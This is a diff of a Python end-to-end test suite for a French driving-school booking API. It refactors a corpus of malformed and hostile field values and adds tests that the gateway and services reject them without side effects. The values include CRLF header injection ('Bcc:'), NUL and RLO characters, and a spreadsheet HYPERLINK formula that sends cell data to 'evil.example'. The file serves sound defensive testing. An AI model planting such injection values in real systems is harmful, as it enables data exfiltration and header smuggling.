@@ -12,11 +12,9 @@ from __future__ import annotations
 
 import csv
 import io
-import re
 import secrets
 import time
 import uuid
-from collections.abc import Iterator
 from typing import Any
 from urllib.parse import parse_qs, urlparse
 
@@ -28,90 +26,9 @@ from psycopg import sql
 from services.billing.provider import APPROVED
 from services.candidates.application import ACTIVATION
 from services.scheduling.domain import COLLECTIVE
-from tests.e2e.conftest import PASSWORD, sign_up_payload
+from tests.e2e.hostile import TIMEOUT, cases, problem, sign_up_school
 from tests.e2e.test_booking_api import activated_files, centre, hold, next_weekday
 from tests.helpers import link_in, mails_to, wait_for
-
-TIMEOUT = 60
-FULL_WIDTH_NEPH = "１２３４５６７８９０１２"
-ARABIC_INDIC_NEPH = "١٢٣٤٥٦٧٨٩٠١٢"
-
-# Refused in every field, whatever it holds.
-ANY_FIELD: dict[str, Any] = {
-    "NUL": "Dupont\x00",
-    "NUL seul": "\x00",
-    "caractère de contrôle": "\x1b[31mDupont",
-    "retour à la ligne": "Dupont\r\nBcc: x@example.fr",
-    "RLO": "Dupont\u202etxt.exe",
-    "espace de largeur nulle": "Du\u200bpont",
-    "surrogate isolé": "\ud800",
-    "10 000 caractères": "A" * 10_000,
-    "nombre": 12345,
-    "nombre énorme": 10**30,
-    "flottant énorme": 1e308,
-    "booléen": True,
-    "liste": ["Dupont"],
-    "objet imbriqué": {"a": {"b": "c"}},
-}
-BLANK: dict[str, Any] = {"vide": "", "espaces seuls": "   ", "null": None}
-EMAIL: dict[str, Any] = {
-    "e-mail émoji": "😀@example.fr",
-    "e-mail accentué": "zoé@example.fr",
-    "e-mail de 10 000 caractères": "a" * 10_000 + "@example.fr",
-    "e-mail sans domaine": "a@b",
-}
-DIGITS: dict[str, Any] = {
-    "chiffres pleine chasse": FULL_WIDTH_NEPH,
-    "chiffres arabes-indiens": ARABIC_INDIC_NEPH,
-    "lettres": "12AB",
-}
-SIRET: dict[str, Any] = {
-    "SIRET de zéros": "00000000000000",
-    "SIRET pleine chasse": "７３２８２９３２００００７４",
-    "SIRET arabe-indien": "٧٣٢٨٢٩٣٢٠٠٠٠٧٤",
-}
-POSTAL_CODE: dict[str, Any] = {
-    "code postal pleine chasse": "６９００１",
-    "code postal arabe-indien": "٦٩٠٠١",
-    "code postal 00000": "00000",
-}
-BOOLEAN: dict[str, Any] = {
-    "yes": "yes",
-    "1": 1,
-    "true en texte": "true",
-    "null": None,
-    "objet": {},
-}
-DATE: dict[str, Any] = {
-    "an 9999": "9999-12-31",
-    "an 0001": "0001-01-01",
-    "date pleine chasse": "２０２６-01-01",
-    "30 février": "2026-02-30",
-    "pas une date": "demain",
-}
-# A query string carries text only; over 8 KB the URL itself is refused, which
-# is the web server's answer, not this corpus's (see the edge tests).
-QUERY_TEXT: dict[str, str] = {
-    "NUL": "a\x00b",
-    "caractère de contrôle": "\x1b[31m",
-    "retour à la ligne": "a\r\nb",
-    "RLO": "a\u202eb",
-    "espace de largeur nulle": "a\u200bb",
-    "5 000 caractères": "A" * 5_000,
-}
-BODIES: dict[str, Any] = {
-    "tableau": [],
-    "texte": "x",
-    "nombre": 1,
-    "null": None,
-}
-# Not a language detector: enough to tell werkzeug's English pages from ours.
-FRENCH = re.compile(
-    r"[éèêàùçôî]|\b(le|la|les|l|de|d|du|des|ce|cet|cette|ces|est|sont|vous|votre"
-    r"|vos|doit|une?|et|ou|pas|ne|n|en|au|aux|pour|avec|sur|introuvable)\b",
-    re.IGNORECASE,
-)
-
 
 # -- the setting: an attacking school with real resources, a quiet platform ----------
 
@@ -119,7 +36,7 @@ FRENCH = re.compile(
 @pytest.fixture(scope="module")
 def attacker(gateway, stack, scheduling, candidates, mail_folder_module) -> dict:
     """A school with a file to confirm, a booked candidate, a free one, a cart."""
-    school = _school(gateway, mail_folder_module)
+    school = sign_up_school(gateway, mail_folder_module)
     site = centre(scheduling, "TEST-HOSTILE", "Lyon", 45.76, 4.84)
     first = scheduling.schedule_session(site, next_weekday(2, 3), 18, COLLECTIVE)
     second = scheduling.schedule_session(site, next_weekday(4, 3), 18, COLLECTIVE)
@@ -157,28 +74,6 @@ def mail_folder_module(settings):
     return Path(settings.mail_folder)
 
 
-def _school(gateway: str, mail_folder) -> dict:
-    email = f"ecole-{secrets.token_hex(4)}@example.fr"
-    created = requests.post(f"{gateway}/api/comptes", json=sign_up_payload(email))
-    assert created.status_code == 201, created.text
-    mail = wait_for(lambda: mails_to(mail_folder, email), timeout=30)[0]
-    query = parse_qs(urlparse(link_in(mail, "activation")).query)
-    activated = requests.post(
-        f"{gateway}/api/comptes/activation",
-        json={"compte": query["compte"][0], "jeton": query["jeton"][0]},
-    )
-    assert activated.status_code == 200, activated.text
-    session = requests.post(
-        f"{gateway}/api/sessions", json={"email": email, "password": PASSWORD}
-    )
-    assert session.status_code == 201, session.text
-    return {
-        "email": email,
-        "account": session.json()["account"],
-        "headers": {"Authorization": f"Bearer {session.json()['token']}"},
-    }
-
-
 def _event_counts(settings) -> dict[str, int]:
     """Stored events of every service of this run: any change writes one."""
     counts = {}
@@ -209,269 +104,18 @@ def _quiet(settings) -> dict[str, int]:
     raise AssertionError("the platform never became quiet")
 
 
-# -- the corpus, from the OpenAPI document --------------------------------------------
-
-
-def _resolve(document: dict, schema: dict) -> dict:
-    while "$ref" in schema:
-        schema = document["components"]["schemas"][schema["$ref"].split("/")[-1]]
-    if "anyOf" in schema:  # apispec's nullable nested object
-        return _resolve(document, schema["anyOf"][0])
-    return schema
-
-
-def _hostile_values(prop: dict, required: bool) -> dict[str, Any]:
-    """The corpus for one field, by what the field holds."""
-    if prop.get("type") == "boolean":
-        return {**BOOLEAN, "texte NUL": "\x00"}
-    values = dict(ANY_FIELD)
-    if "anyOf" in prop or "$ref" in prop:  # an object: an object is its due
-        values.pop("objet imbriqué")
-    if required:
-        values.update(BLANK)
-    if prop.get("format") == "email":
-        values.update(EMAIL)
-    pattern = prop.get("pattern", "")
-    if "[0-9]" in pattern and "{5}" in pattern:
-        values.update(POSTAL_CODE)
-    elif "{13}" in pattern:
-        values.update(SIRET)
-    elif "[0-9]" in pattern and "/" not in pattern and "+" not in pattern:
-        values.update(DIGITS)
-    return values
-
-
-def _fields(document: dict, schema: dict, prefix: str = "") -> Iterator[tuple]:
-    """(dotted name, property, required) of every field, nested ones included."""
-    schema = _resolve(document, schema)
-    required = set(schema.get("required", []))
-    for name, prop in schema.get("properties", {}).items():
-        if prop.get("readOnly"):
-            continue
-        inner = _resolve(document, prop)
-        if inner.get("type") == "object" and "properties" in inner:
-            yield f"{prefix}{name}", prop, name in required
-            yield from _fields(document, inner, f"{prefix}{name}.")
-        else:
-            yield f"{prefix}{name}", prop, name in required
-
-
-def _with(body: dict, dotted: str, value: Any) -> dict:
-    changed = {**body}
-    outer, _, inner = dotted.partition(".")
-    if inner:
-        changed[outer] = _with(dict(changed.get(outer) or {}), inner, value)
-    else:
-        changed[outer] = value
-    return changed
-
-
-def _bases(attacker: dict) -> dict[tuple[str, str], dict[str, Any]]:
-    """A body or query each operation would accept (or refuse only for a reason
-    of its own): the corpus changes one field of it at a time."""
-    unknown = f"inconnu-{secrets.token_hex(3)}@example.fr"
-    pending = attacker["pending"]
-    first, second = attacker["sessions"]
-    link = {"compte": str(uuid.uuid4()), "jeton": "x" * 43}
-    return {
-        ("post", "/api/comptes"): sign_up_payload(
-            f"nouvelle-{secrets.token_hex(3)}@example.fr"
-        ),
-        ("post", "/api/comptes/activation"): link,
-        ("post", "/api/comptes/activation/renvoi"): {"email": unknown},
-        ("post", "/api/sessions"): {"email": unknown, "password": PASSWORD},
-        ("post", "/api/mot-de-passe/oubli"): {"email": unknown},
-        ("post", "/api/mot-de-passe/reinitialisation"): {
-            **link,
-            "password": "Permis2030",
-        },
-        # Each would change something if a hostile neighbour let it through.
-        ("patch", "/api/compte"): {"last_name": "Martin", "phone": "06 98 76 54 32"},
-        ("post", "/api/compte/mot-de-passe"): {
-            "current_password": PASSWORD,
-            "new_password": "Permis2030",
-        },
-        ("post", "/api/candidats"): {
-            "neph": "208888888888",
-            "civility": "M",
-            "birth_name": "Hostile",
-            "given_names": "Jean",
-            "birth_date": "01/01/2004",
-            "email": "hostile@example.fr",
-            "address": {"street": "1 rue", "postal_code": "69001", "city": "Lyon"},
-            "phone": "06 12 34 56 78",
-        },
-        ("post", "/api/candidats/import"): {
-            "csv": "neph;civilite;nom_naissance;prenoms;date_naissance;email\r\n"
-            "207777777777;M;Import;Jean;01/01/2004;import@example.fr\r\n"
-        },
-        ("patch", "/api/candidats/{candidate_id}/contact"): {
-            "email": "nouvelle@example.fr",
-            "phone": "06 11 22 33 44",
-            "address": {"street": "2 rue", "postal_code": "69002", "city": "Lyon"},
-        },
-        ("post", "/api/candidat/dossier"): {
-            "dossier": pending["id"],
-            "jeton": pending["token"],
-        },
-        ("post", "/api/candidat/code"): {"neph": "209999999999", "code": "ABCDEFGHIJ"},
-        ("post", "/api/candidat/confirmation"): {
-            "dossier": pending["id"],
-            "jeton": pending["token"],
-            "attestation": True,
-        },
-        ("post", "/api/candidat/refus"): {
-            "dossier": pending["id"],
-            "jeton": pending["token"],
-        },
-        ("post", "/api/panier"): {"neph": attacker["free_neph"], "session": first},
-        ("put", "/api/panier/{reservation_id}"): {"session": second},
-        ("post", "/api/paiement/carte"): {
-            "cgv": True,
-            "carte": APPROVED,
-            "cle": f"hostile-{secrets.token_hex(4)}",
-        },
-        ("post", "/api/paiement/sepa"): {
-            "cgv": True,
-            "iban": "FR14 2004 1010 0505 0001 3M02 606",
-            "bic": "PSSTFRPPLIL",
-            "titulaire": "Auto-école du Centre",
-            "cle": f"hostile-{secrets.token_hex(4)}",
-        },
-        # Queries.
-        ("get", "/api/candidats"): {"recherche": "Siège"},
-        ("get", "/api/reservations"): {"recherche": "Siège", "date": "2026-12-01"},
-        ("get", "/api/examens/recherche"): {
-            "lieu": "Lyon",
-            "a_partir_du": "2026-12-01",
-            "avant_le": "2027-01-01",
-            "individuelle": "false",
-            "pmr": "false",
-        },
-        ("get", "/api/inscription/candidat"): {"neph": attacker["booked_neph"]},
-        ("get", "/api/candidat/recu"): {
-            "dossier": pending["id"],
-            "jeton_recu": "x" * 43,
-        },
-    }
-
-
-def _path(path: str, attacker: dict, value: str | None = None) -> str:
-    real = {
-        "candidate_id": attacker["pending"]["id"],
-        "reservation_id": attacker["reservation_id"],
-        "checkout_id": str(uuid.uuid4()),
-    }
-    return re.sub(
-        r"\{([a-z_]+)\}",
-        lambda m: value if value is not None else real.get(m[1], str(uuid.uuid4())),
-        path,
-    )
-
-
-def _cases(document: dict, attacker: dict) -> Iterator[tuple[str, ...]]:
-    """(label, method, path, kind, payload) of every hostile request."""
-    bases = _bases(attacker)
-    for path, operations in document["paths"].items():
-        for method, operation in operations.items():
-            base = bases.get((method, path), {})
-            body = operation.get("requestBody")
-            if body is not None:
-                schema = body["content"]["application/json"]["schema"]
-                for dotted, prop, required in _fields(document, schema):
-                    for label, value in _hostile_values(prop, required).items():
-                        yield (
-                            f"{method.upper()} {path} {dotted}={label}",
-                            method,
-                            _path(path, attacker),
-                            "json",
-                            _with(base, dotted, value),
-                            dotted,
-                        )
-                for label, value in BODIES.items():
-                    yield (
-                        f"{method.upper()} {path} corps={label}",
-                        method,
-                        _path(path, attacker),
-                        "json",
-                        value,
-                        None,
-                    )
-            for parameter in operation.get("parameters", []):
-                if parameter["in"] == "query":
-                    values = dict(QUERY_TEXT)
-                    if parameter["schema"].get("format") == "date":
-                        values.update(DATE)
-                    if parameter["schema"].get("type") == "boolean":
-                        values.update({"oui": "oui", "1": "1", "TRUE": "TRUE"})
-                    if "[0-9]" in parameter["schema"].get("pattern", ""):
-                        values.update(DIGITS)
-                    for label, value in values.items():
-                        yield (
-                            f"{method.upper()} {path} ?{parameter['name']}={label}",
-                            method,
-                            _path(path, attacker),
-                            "query",
-                            {**base, parameter["name"]: value},
-                            parameter["name"],
-                        )
-                elif parameter["in"] == "path":
-                    for label, value in {
-                        "NUL": "%00",
-                        "RLO": "%E2%80%AE",
-                        "chiffres pleine chasse": FULL_WIDTH_NEPH,
-                        "inconnu": str(uuid.uuid4()),
-                    }.items():
-                        yield (
-                            f"{method.upper()} {path} {{{parameter['name']}}}={label}",
-                            method,
-                            _path(path, attacker, value),
-                            "json" if body is not None else "none",
-                            base if body is not None else None,
-                            None,
-                        )
-
-
-def _problem(answer: requests.Response, field: str | None) -> str | None:
-    """Why an answer is not a 4xx JSON error in French, or None."""
-    if not 400 <= answer.status_code < 500:
-        return f"status {answer.status_code}: {answer.text[:200]}"
-    if not answer.headers.get("Content-Type", "").startswith("application/json"):
-        return f"not JSON ({answer.headers.get('Content-Type')}): {answer.text[:200]}"
-    try:
-        error = answer.json()
-    except ValueError:
-        return f"unreadable JSON: {answer.text[:200]}"
-    if error.get("status") != answer.status_code or not error.get("code"):
-        return f"not the GW-3 format: {error}"
-    messages = [error.get("message", "")] + [
-        m for ms in (error.get("fields") or {}).values() for m in ms
-    ]
-    if not all(FRENCH.search(m) for m in messages):
-        return f"not in French: {messages}"
-    named = error.get("fields") or {}
-    if (
-        answer.status_code == 400
-        and field is not None
-        and named
-        and not any(k == field or k.startswith(f"{field}.") for k in named)
-    ):
-        return f"the field {field} is not named: {error}"
-    return None
-
-
 def test_hostile_inputs_get_a_french_4xx_and_change_nothing(
     gateway, attacker, settings
 ):
     document = requests.get(f"{gateway}/api/openapi.json", timeout=TIMEOUT).json()
-    cases = list(_cases(document, attacker))
-    covered = {(c[1], c[2].split("?")[0]) for c in cases}
+    corpus = list(cases(document, attacker))
+    covered = {(c[1], c[2].split("?")[0]) for c in corpus}
     assert len(covered) >= 20, covered  # every write endpoint and query
     before = _quiet(settings)
 
     problems = []
     session = requests.Session()
-    for label, method, url, kind, payload, field in cases:
+    for label, method, url, kind, payload, field in corpus:
         headers = dict(attacker["headers"])
         options: dict[str, Any] = {"headers": headers, "timeout": TIMEOUT}
         if kind == "json":
@@ -479,12 +123,162 @@ def test_hostile_inputs_get_a_french_4xx_and_change_nothing(
         elif kind == "query":
             options["params"] = payload
         answer = session.request(method.upper(), f"{gateway}{url}", **options)
-        problem = _problem(answer, field)
-        if problem:
-            problems.append(f"{label}: {problem}")
+        wrong = problem(answer, field)
+        if wrong:
+            problems.append(f"{label}: {wrong}")
     assert problems == [], "\n".join(problems[:40])
 
     time.sleep(2)  # what a request let through would be followed by its events
+    assert _event_counts(settings) == before
+
+
+EDGE = (
+    "the web server layer (gateway/api.py, gateway/http.py, gateway/server.py) is "
+    "another branch's part of issue 9: remove this mark once it is merged"
+)
+
+
+def _deep(depth: int) -> str:
+    return '{"a": ' * depth + "1" + "}" * depth
+
+
+@pytest.mark.parametrize(
+    ("label", "method", "path", "body", "content_type", "expected"),
+    [
+        pytest.param(
+            "JSON imbriqué 5 000 fois",
+            "POST",
+            "/api/candidats",
+            _deep(5000),
+            "application/json",
+            range(400, 500),
+            marks=pytest.mark.xfail(reason=EDGE, strict=True),
+        ),
+        pytest.param(
+            "corps text/plain",
+            "POST",
+            "/api/candidats",
+            '{"neph": "204444444444", "civility": "M", "birth_name": "Texte",'
+            ' "given_names": "Jean", "birth_date": "2004-01-01",'
+            ' "email": "texte@example.fr"}',
+            "text/plain",
+            range(400, 500),
+            marks=pytest.mark.xfail(reason=EDGE, strict=True),
+        ),
+        pytest.param(
+            "corps de 5 Mo",
+            "POST",
+            "/api/candidats",
+            '{"neph": "204444444445", "x": "' + "a" * 5_000_000 + '"}',
+            "application/json",
+            [413],
+            marks=pytest.mark.xfail(reason=EDGE, strict=True),
+        ),
+        pytest.param(
+            "chemin inconnu",
+            "GET",
+            "/api/inconnu",
+            None,
+            None,
+            [404],
+            marks=pytest.mark.xfail(reason=EDGE, strict=True),
+        ),
+        pytest.param(
+            "méthode non permise",
+            "DELETE",
+            "/api/sessions",
+            None,
+            None,
+            [405],
+            marks=pytest.mark.xfail(reason=EDGE, strict=True),
+        ),
+        pytest.param(
+            "URL de plus de 8 Ko",
+            "GET",
+            "/api/candidats?recherche=" + "a" * 10_000,
+            None,
+            None,
+            [414],
+            marks=pytest.mark.xfail(reason=EDGE, strict=True),
+        ),
+    ],
+)
+def test_hostile_requests_beyond_the_fields_get_a_french_4xx_and_change_nothing(
+    gateway, attacker, settings, label, method, path, body, content_type, expected
+):
+    before = _quiet(settings)
+    headers = dict(attacker["headers"])
+    if content_type:
+        headers["Content-Type"] = content_type
+    answer = requests.request(
+        method, f"{gateway}{path}", data=body, headers=headers, timeout=TIMEOUT
+    )
+    assert answer.status_code in expected, f"{label}: {answer.status_code}"
+    assert problem(answer, None) is None, f"{label}: {problem(answer, None)}"
+    time.sleep(1)
+    assert _event_counts(settings) == before
+
+
+def test_without_the_gateway_the_services_refuse_the_same(
+    gateway, attacker, settings, candidates, scheduling
+):
+    """Defence in depth: a file created by RPC or a CSV line keeps nothing the
+    gateway refuses, so no event carries a NUL or an over-long value."""
+    from services.candidates.application import InvalidCandidateFile
+    from services.scheduling.domain import SchedulingError
+
+    before = _quiet(settings)
+    school = attacker["account"]["account_id"]
+    for hostile in (
+        {"birth_name": "Dupont\x00"},
+        {"given_names": "Jean\u202e"},
+        {"neph": "１２３４５６７８９０１２"},
+        {"email": "😀@example.fr"},
+        {"address": {"street": "x" * 10_000, "postal_code": "69001", "city": "L"}},
+    ):
+        with pytest.raises(InvalidCandidateFile):
+            candidates.create_file(
+                school,
+                attacker["email"],
+                {
+                    "neph": "203333333333",
+                    "civility": "M",
+                    "birth_name": "Dupont",
+                    "given_names": "Jean",
+                    "birth_date": "2004-01-01",
+                    "email": "rpc@example.fr",
+                    **hostile,
+                },
+            )
+    with pytest.raises(SchedulingError):
+        scheduling.register_centre(
+            {
+                "code": "RPC-1",
+                "name": "Centre\x00",
+                "address": "1 rue",
+                "postal_code": "69001",
+                "city": "Lyon",
+                "departement": "69",
+                "latitude": 45.7,
+                "longitude": 4.8,
+                "pmr": True,
+                "opening_hours": "",
+            }
+        )
+    imported = requests.post(
+        f"{gateway}/api/candidats/import",
+        json={
+            "csv": "neph;civilite;nom_naissance;prenoms;date_naissance;email\r\n"
+            "203333333334;M;Du\u202epont;Jean;01/01/2004;a@example.fr\r\n"
+            "١٢٣٤٥٦٧٨٩٠١٢;M;Dupont;Jean;01/01/2004;b@example.fr\r\n"
+        },
+        headers=attacker["headers"],
+        timeout=TIMEOUT,
+    )
+    assert imported.status_code == 200, imported.text
+    assert imported.json()["created"] == 0
+    assert [f["line"] for f in imported.json()["failed"]] == [2, 3]
+    time.sleep(1)
     assert _event_counts(settings) == before
 
 
@@ -492,7 +286,7 @@ def test_after_the_corpus_another_school_books_and_pays_as_usual(
     gateway, attacker, mail_folder_module, scheduling
 ):
     """Runs after the corpus (same module, in order): the platform still works."""
-    school = _school(gateway, mail_folder_module)
+    school = sign_up_school(gateway, mail_folder_module)
     email = f"candidat-{secrets.token_hex(3)}@example.fr"
     created = requests.post(
         f"{gateway}/api/candidats",
@@ -567,7 +361,7 @@ def test_after_the_corpus_another_school_books_and_pays_as_usual(
 def test_a_formula_typed_as_a_name_is_kept_as_text_and_exported_escaped(
     gateway, mail_folder_module
 ):
-    school = _school(gateway, mail_folder_module)
+    school = sign_up_school(gateway, mail_folder_module)
     formula = '=HYPERLINK("http://evil.example/?x="&A1,"Cliquez")'
     created = requests.post(
         f"{gateway}/api/candidats",
